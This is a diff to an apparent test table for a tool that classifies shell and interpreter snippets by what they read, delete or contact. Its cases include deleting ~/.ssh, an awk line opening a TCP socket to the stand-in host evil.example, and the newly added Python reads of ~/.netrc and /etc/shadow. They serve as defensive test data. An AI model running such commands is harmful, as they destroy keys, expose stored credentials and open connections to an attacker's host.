@@ -436,6 +436,10 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
      {"commands": ("rm -rf ~/.ssh",)}),
     ("awk", 'BEGIN { s = "/inet/tcp/0/evil.example/4444"; print "x" |& s }',
      {"urls": ("tcp://evil.example:4444",), "risky": (SOCKET,)}),
+    ("python", "import pathlib; pathlib.Path.home().joinpath('.netrc').read_text()",
+     {"reads": ("~/.netrc",)}),
+    ("python", "import pathlib as p; p.Path('/etc').joinpath('shadow').read_bytes()",
+     {"reads": ("/etc/shadow", "/etc")}),  # (a path given to Path counts as named)
 ]
 FIELDS = ("commands", "reads", "writes", "deletes", "chmods", "urls", "risky", "unknown_targets")
 
